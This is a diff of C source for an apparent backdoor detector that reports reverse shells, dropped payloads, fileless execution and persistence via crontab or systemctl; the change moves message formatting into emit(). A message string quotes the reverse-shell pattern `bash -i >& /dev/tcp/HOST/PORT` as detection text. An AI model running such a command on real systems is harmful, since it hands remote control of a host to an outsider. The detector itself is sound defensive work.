@@ -84,15 +84,15 @@ static bool check_shell(struct backdoor *st, struct proc *p, const struct da_eve
 		return false;
 	bool accepted = dup ? dup->kind == FD_ACCEPTED
 			    : (owner && owner->accept_text && !owner->connected);
-	char msg[768], res[64];
+	char res[64];
 	outcome(ev, res, sizeof(res));
-	snprintf(msg, sizeof(msg), "%s: %s gets its stdin/stdout from a network connection (%s)%s",
-		 accepted ? "bind shell" : "reverse shell", exe, link, res);
 	const char *evidence[3] = {owner ? (accepted ? owner->accept_text : owner->connect_text) : NULL,
 				   owner ? owner->dup_text : NULL, ev->text};
 	emit(st, accepted ? "backdoor.bind_shell" : "backdoor.reverse_shell", DA_SEV_CRITICAL,
-	     accepted ? "Bind shell" : "Reverse shell", msg, ev->pid, ev->time_s, evidence, 3,
-	     "Remove the code that hands a shell or interpreter to a network peer: this is remote control of the host");
+	     accepted ? "Bind shell" : "Reverse shell", ev->pid, ev->time_s, evidence, 3,
+	     "Remove the code that hands a shell or interpreter to a network peer: this is remote control of the host",
+	     "%s: %s gets its stdin/stdout from a network connection (%s)%s",
+	     accepted ? "bind shell" : "reverse shell", exe, link, res);
 	if (!accepted)
 		rs_note(st, stream_peer(link) ? stream_peer(link) : (dup ? dup->desc : NULL));
 	return true;
@@ -134,16 +134,15 @@ static bool check_local_socket_shell(struct backdoor *st, struct proc *p, const 
 	if (fd < 0)
 		return false;
 	rs_note(st, p->tried);
-	char msg[768], res[64];
+	char res[64];
 	outcome(ev, res, sizeof(res));
-	snprintf(msg, sizeof(msg),
-		 "reverse shell attempted: %s runs with its %s on a socket (%s) after the run tried to "
-		 "reach %s; the peer did not answer here, on a real network it gets the shell%s",
-		 exe, fd == 0 ? "stdin" : "stdout", ev->stdio[fd], p->tried, res);
 	const char *evidence[2] = {p->tried_text, ev->text};
-	emit(st, "backdoor.reverse_shell", DA_SEV_HIGH, "Reverse shell attempt", msg, ev->pid,
+	emit(st, "backdoor.reverse_shell", DA_SEV_HIGH, "Reverse shell attempt", ev->pid,
 	     ev->time_s, evidence, 2,
-	     "Remove the code that hands a shell a socket after connecting out: this is a reverse shell");
+	     "Remove the code that hands a shell a socket after connecting out: this is a reverse shell",
+	     "reverse shell attempted: %s runs with its %s on a socket (%s) after the run tried to "
+	     "reach %s; the peer did not answer here, on a real network it gets the shell%s",
+	     exe, fd == 0 ? "stdin" : "stdout", ev->stdio[fd], p->tried, res);
 	return true;
 }
 
@@ -199,21 +198,20 @@ static void check_stdio_socket(struct backdoor *st, struct proc *p, const struct
 	if (!owner || !peer || allowed(st, peer) || rs_reported(st, peer))
 		return;
 	rs_note(st, peer);
-	char msg[768], res[64];
+	char res[64];
 	outcome(ev, res, sizeof(res));
-	snprintf(msg, sizeof(msg),
-		 "reverse shell: %s runs with its %s on the connection to %s that %s (pid %d) opened%s",
-		 exe, fd == 0 ? "stdin" : "stdout", peer, owner->exe[0] ? owner->exe : "the run",
-		 owner->pid, res);
 	/* the first connect of the owner, when it is the one to this peer */
 	const char *port = strrchr(peer, ':');
 	const char *ctext = owner->connect_text && port && strstr(owner->connect_text, port + 1)
 				    ? owner->connect_text
 				    : NULL;
 	const char *evidence[3] = {ctext, owner->dup_text, ev->text};
-	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell", msg, ev->pid,
-	     ev->time_s, evidence, 3,
-	     "Remove the code that runs commands with their input or output on an outgoing connection: this is remote control of the host");
+	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell", ev->pid, ev->time_s,
+	     evidence, 3,
+	     "Remove the code that runs commands with their input or output on an outgoing connection: this is remote control of the host",
+	     "reverse shell: %s runs with its %s on the connection to %s that %s (pid %d) opened%s",
+	     exe, fd == 0 ? "stdin" : "stdout", peer, owner->exe[0] ? owner->exe : "the run",
+	     owner->pid, res);
 }
 
 /* True when argument a of the runner base makes it take its code from the
@@ -309,7 +307,7 @@ static void check_script_arg(struct backdoor *st, struct proc *p, const struct d
 	char path[4096];
 	if (!arg || (arg[0] != '/' && cwd[0] != '/') || !da_path_normalize(arg, cwd, path, sizeof(path)))
 		return;
-	char msg[768], res[64], how[96];
+	char res[64], how[96];
 	outcome(ev, res, sizeof(res));
 	if (loader)
 		snprintf(how, sizeof(how), "through the dynamic loader %s", base);
@@ -321,25 +319,22 @@ static void check_script_arg(struct backdoor *st, struct proc *p, const struct d
 	const struct dropped *d = dropped_find(st, path);
 	const struct work_write *w = loader && !d ? work_find(st, path) : NULL;
 	if (d && !d->setup) {
-		snprintf(msg, sizeof(msg), "dropped payload: runs %s, which it wrote, %s%s", path,
-			 how, res);
 		const char *evidence[2] = {d->text, ev->text};
-		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Dropped payload executed", msg,
-		     ev->pid, ev->time_s, evidence, 2, rec);
+		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Dropped payload executed",
+		     ev->pid, ev->time_s, evidence, 2, rec,
+		     "dropped payload: runs %s, which it wrote, %s%s", path, how, res);
 	} else if (w) {
 		/* a build output is written by the toolchain, never by a script */
-		snprintf(msg, sizeof(msg),
-			 "dropped payload: runs %s %s, a file %s wrote in the workdir during the run%s",
-			 path, how, w->writer[0] ? w->writer : "the run", res);
 		const char *evidence[2] = {w->text, ev->text};
-		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Dropped payload executed", msg,
-		     ev->pid, ev->time_s, evidence, 2, rec);
+		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Dropped payload executed",
+		     ev->pid, ev->time_s, evidence, 2, rec,
+		     "dropped payload: runs %s %s, a file %s wrote in the workdir during the run%s",
+		     path, how, w->writer[0] ? w->writer : "the run", res);
 	} else if (loader && !d && in_temp_dir(path) && !in_workdir(st, path)) {
-		snprintf(msg, sizeof(msg), "executes %s from a writable temporary directory %s%s",
-			 path, how, res);
 		const char *evidence[1] = {ev->text};
-		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp", msg, ev->pid,
-		     ev->time_s, evidence, 1, rec);
+		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp", ev->pid,
+		     ev->time_s, evidence, 1, rec,
+		     "executes %s from a writable temporary directory %s%s", path, how, res);
 	}
 }
 
@@ -347,7 +342,7 @@ void on_exec(struct backdoor *st, const struct da_event *ev)
 {
 	struct proc *p = proc_get(st, ev->pid, ev->ppid);
 	const char *exe = ev->path ? ev->path : (ev->argc > 0 && ev->argv ? ev->argv[0] : NULL);
-	char msg[768], res[64];
+	char res[64];
 	outcome(ev, res, sizeof(res));
 	const char *rec = "Remove the code that writes and runs hidden or temporary executables";
 
@@ -361,27 +356,25 @@ void on_exec(struct backdoor *st, const struct da_event *ev)
 	if (p && exe && ev->err == 0)
 		snprintf(p->exe, sizeof(p->exe), "%s", da_prog_base_name(exe));
 	if (is_fileless(ev, exe)) {
-		snprintf(msg, sizeof(msg), "dropped payload: executes an in-memory file (%s)%s",
-			 exe ? exe : "memfd", res);
 		const char *evidence[1] = {ev->text};
-		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Fileless execution", msg,
-		     ev->pid, ev->time_s, evidence, 1, rec);
+		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Fileless execution", ev->pid,
+		     ev->time_s, evidence, 1, rec,
+		     "dropped payload: executes an in-memory file (%s)%s", exe ? exe : "memfd",
+		     res);
 	} else if (exe) {
 		const struct dropped *d = dropped_find(st, exe);
 		if (d && d->setup) {
 			/* built or installed by target.setup: expected */
 		} else if (d) {
-			snprintf(msg, sizeof(msg), "dropped payload: executes %s, which it wrote%s", exe,
-				 res);
 			const char *evidence[2] = {d->text, ev->text};
 			emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL,
-			     "Dropped payload executed", msg, ev->pid, ev->time_s, evidence, 2, rec);
+			     "Dropped payload executed", ev->pid, ev->time_s, evidence, 2, rec,
+			     "dropped payload: executes %s, which it wrote%s", exe, res);
 		} else if (in_temp_dir(exe) && !in_workdir(st, exe)) {
-			snprintf(msg, sizeof(msg), "executes %s from a writable temporary directory%s",
-				 exe, res);
 			const char *evidence[1] = {ev->text};
-			emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp", msg,
-			     ev->pid, ev->time_s, evidence, 1, rec);
+			emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp",
+			     ev->pid, ev->time_s, evidence, 1, rec,
+			     "executes %s from a writable temporary directory%s", exe, res);
 		}
 	}
 	/* scheduling tools plant persistence without touching files themselves */
@@ -395,11 +388,11 @@ void on_exec(struct backdoor *st, const struct da_event *ev)
 	}
 	if ((strcmp(base, "crontab") == 0 && !lists_only) || strcmp(base, "at") == 0 ||
 	    strcmp(base, "batch") == 0 || (strcmp(base, "systemctl") == 0 && enables)) {
-		snprintf(msg, sizeof(msg), "plants persistence: runs %s%s", base, res);
 		const char *evidence[1] = {ev->text};
-		emit(st, "backdoor.persistence", DA_SEV_HIGH, "Persistence planted", msg, ev->pid,
+		emit(st, "backdoor.persistence", DA_SEV_HIGH, "Persistence planted", ev->pid,
 		     ev->time_s, evidence, 1,
-		     "Remove the code that schedules jobs or services; a submission must leave no trace after it exits");
+		     "Remove the code that schedules jobs or services; a submission must leave no trace after it exits",
+		     "plants persistence: runs %s%s", base, res);
 	}
 }
 
@@ -470,20 +463,20 @@ void on_other(struct backdoor *st, const struct da_event *ev)
 static void report_shell_connect(struct backdoor *st, const char *exe, const char *dest, int err,
 				 bool ok, int pid, double t, const char *text)
 {
-	char msg[512], res[96];
+	char res[96];
 	if (ok)
 		snprintf(res, sizeof(res), "it reached its peer");
 	else
 		snprintf(res, sizeof(res), "failed: %s (nobody answered, so no shell was handed over)",
 			 strerrorname_np(err) ? strerrorname_np(err) : "error");
-	snprintf(msg, sizeof(msg),
-		 "reverse shell attempted: %s opened a connection to %s itself, the /dev/tcp redirection "
-		 "of `bash -i >& /dev/tcp/HOST/PORT`; %s",
-		 exe, dest, res);
 	rs_note(st, dest);
 	const char *evidence[1] = {text};
-	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell attempt", msg, pid, t, evidence,
-	     text ? 1 : 0, "Remove the connection from the shell code and find out who was meant to receive the shell");
+	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell attempt", pid, t,
+	     evidence, text ? 1 : 0,
+	     "Remove the connection from the shell code and find out who was meant to receive the shell",
+	     "reverse shell attempted: %s opened a connection to %s itself, the /dev/tcp redirection "
+	     "of `bash -i >& /dev/tcp/HOST/PORT`; %s",
+	     exe, dest, res);
 }
 
 /* A POSIX shell opens an inet socket itself only for a /dev/tcp or
